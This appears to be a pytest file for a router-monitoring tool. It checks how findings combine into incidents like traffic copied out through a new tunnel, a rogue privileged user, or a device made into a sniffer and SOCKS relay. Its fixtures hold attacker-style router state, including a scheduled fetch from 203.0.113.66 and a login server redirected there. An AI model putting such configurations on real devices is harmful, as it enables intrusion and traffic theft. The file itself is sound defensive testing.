"""Findings that tell a story together become one incident; what looks alike does not."""

from dataclasses import replace
from datetime import timedelta

import pytest
from support.build import (
    NOW,
    capture,
    digest,
    erspan,
    facts,
    file,
    image,
    policy,
    state,
    to_ip,
    traits,
    tunnel,
)

from netwatch.detect import detect
from netwatch.incidents import incidents
from netwatch.judgement.stories import STORIES, TOWARDS
from netwatch.model.evidence import Confidence, Evidence, Severity
from netwatch.model.finding import Finding, KeptFinding, Status
from netwatch.model.mirror import MirrorKind
from netwatch.registry import rules

OURS = policy(prefixes=("192.0.2.0/24",))
RULES = {each.id for each in rules()}
LOGGED = {"log_targets": ("192.0.2.9",)}
SILENT = {"log_targets": ()}


def kept(rule, severity=Severity.HIGH, *, subject="x 1", title="T", days=0, **more):
    finding = Finding(
        rule=rule,
        severity=severity,
        confidence=Confidence.HIGH,
        subject=subject,
        title=title,
        device=more.pop("device", "r1"),
        techniques=("T1040",),
        evidence=(Evidence("c", 1, subject),),
    )
    seen = NOW + timedelta(days=days)
    return KeptFinding(finding=finding, first_seen=seen, last_seen=seen, **more)


def judged(before, after):
    found = detect(facts(before, after, OURS), rules())
    return incidents(KeptFinding(finding=each, first_seen=NOW, last_seen=NOW) for each in found)


def titles(before, after):
    return {each.title for each in judged(before, after)}


def through_tunnel(mirrors, tunnels, posture):
    return state(mirrors=mirrors, tunnels=tunnels, **traits(**posture))


def test_a_mirror_into_a_new_tunnel_with_the_log_removed():
    far = (to_ip("203.0.113.66", resolved_from="Tunnel5"),)
    before = through_tunnel((), (), LOGGED)
    after = through_tunnel((erspan(destinations=far),), (tunnel(remote="203.0.113.66"),), SILENT)
    first = judged(before, after)[0]
    assert first.title == "Traffic is copied out through a new tunnel"
    assert first.severity is Severity.CRITICAL
    assert first.sentence == (
        "On core-rtr1 traffic is copied to a new place, a tunnel is new or leads elsewhere and the "
        "device reports less than before. "
        "Copies of traffic leave by a road that was built for them."
    )
    assert first.devices == ("core-rtr1",)
    assert {"T1020.001", "T1572", "T1562"} <= set(first.techniques)


def test_a_mirror_and_a_tunnel_that_have_nothing_to_do_with_each_other():
    before = through_tunnel((), (), LOGGED)
    after = through_tunnel((erspan(),), (tunnel("Tunnel7", "203.0.113.66"),), LOGGED)
    assert titles(before, after) == set()


def test_a_patched_image_with_another_loader_and_a_reload():
    before = state(image=image(digests=(digest("ab12"),), bootloader="16.12"))
    after = state(
        image=image(
            digests=(digest("cd34"),), bootloader="15.0", booted_at=NOW, last_reload_reason="power"
        )
    )
    assert titles(before, after) == {"The device may run foreign code"}


def test_an_upgrade_is_no_incident():
    before = state(image=image(digests=(digest("ab12"),), bootloader="16.12"))
    after = state(
        image=image(
            digests=(digest("cd34"),), bootloader="17.1", version="17.12.1", booted_at=NOW,
            last_reload_reason="Reload Command",
        )
    )  # fmt: skip
    assert titles(before, after) == set()


def test_a_new_administrator_and_a_web_server():
    before = state(**traits(users=(), services=()))
    after = state(**traits(users=(("eve", "privilege 15"),), services=("http server",)))
    assert titles(before, after) == {"A new administrator and an open web server"}
    ordinary = state(**traits(users=(("noc", "privilege 1"),), services=("http server",)))
    assert titles(before, ordinary) == set()


def test_a_capture_its_file_and_another_login_server():
    old = {"aaa_servers": ("tacacs 192.0.2.5",)}
    new = {"aaa_servers": ("tacacs 203.0.113.66",)}
    before = state(mirrors=(), files=(file("flash:os.bin"),), **traits(**old))
    after = state(
        mirrors=(capture(),), files=(file("flash:os.bin"), file("flash:tac.pcap")), **traits(**new)
    )
    assert titles(before, after) == {"Logins are being collected"}
    assert judged(before, after)[0].severity is Severity.CRITICAL


def test_a_guest_shell_and_an_open_service():
    before = state(**traits(guests=(), services=()))
    after = state(**traits(guests=("app-hosting guestshell",), services=("ssh port 22922",)))
    assert titles(before, after) == {"A foothold beside the router's own system"}


def test_a_sniffer_a_proxy_and_a_schedule():
    before = state(mirrors=(), **traits(services=(), automation=()))
    sniffer = erspan("sniffer", kind=MirrorKind.TZSP)
    after = state(
        mirrors=(sniffer,),
        **traits(
            services=("socks port 4145",),
            automation=(("system scheduler u", "/tool fetch url=http://203.0.113.66/a"),),
        ),
    )
    assert titles(before, after) == {"The device was made a sniffer and a relay"}


def test_a_lie_and_a_reload_nobody_asked_for():
    hidden = traits(automation=(), registered=("event manager applet X",))
    before = state(image=image())
    after = state(image=image(booted_at=NOW, last_reload_reason="critical error"), **hidden)
    assert titles(before, after) == {"The device lies about itself"}


def test_one_finding_is_no_incident():
    for story in STORIES:
        for part in (*story.needs, *story.company):
            assert (
                incidents([kept(part.rules[0], Severity.CRITICAL, subject="http socks fetch")])
                == ()
            )


def test_what_is_resolved_or_explained_is_no_part():
    user, web = kept("local-user-added"), kept("service-exposed", subject="http")
    assert len(incidents([user, web])) == 1
    for status in (Status.RESOLVED, Status.EXPLAINED):
        assert incidents([replace(user, status=status), web]) == ()
    assert len(incidents([replace(user, status=Status.ACKNOWLEDGED), web])) == 1


def test_what_is_far_apart_in_time_is_no_story():
    assert (
        incidents([kept("local-user-added", days=-31), kept("service-exposed", title="http")]) == ()
    )
    assert incidents([kept("local-user-added", days=-29), kept("service-exposed", title="http")])


def test_an_incident_keeps_its_id_when_findings_join_it():
    two = [kept("local-user-added"), kept("service-exposed", title="http")]
    more = [*two, kept("logging-removed", subject="log target", days=1)]
    (one,) = incidents(two)
    same = next(each for each in incidents(more) if each.title == one.title)
    assert same.id == one.id
    assert len(same.findings) == 3
    assert same.first_seen == one.first_seen == NOW


def test_findings_of_two_devices_tell_no_story_of_one():
    assert (
        incidents([kept("local-user-added"), kept("service-exposed", title="http", device="r2")])
        == ()
    )


def test_one_stranger_on_several_devices():
    towards = "tunnel tunnel5 to 203.0.113.66"
    some = [kept("tunnel-added", subject=towards, device=each) for each in ("r2", "r1")]
    (one,) = incidents(some)
    assert one.title == "Several devices lead to 203.0.113.66"
    assert one.devices == ("r1", "r2")
    assert "2 devices" in one.sentence
    assert incidents(some[:1]) == ()
    known = [
        replace(each, finding=replace(each.finding, severity=Severity.MEDIUM)) for each in some
    ]
    assert incidents(known) == ()


@pytest.mark.parametrize("story", STORIES, ids=lambda each: each.key)
def test_stories_name_rules_that_exist_or_are_in_the_contract(story):
    planned = {"image-signing-key-changed", "memory-text-changed", "attestation-failed"}
    for part in (*story.needs, *story.company):
        assert set(part.rules) <= RULES | planned
    assert set(TOWARDS) <= RULES
    assert len(story.needs) + story.least > 1
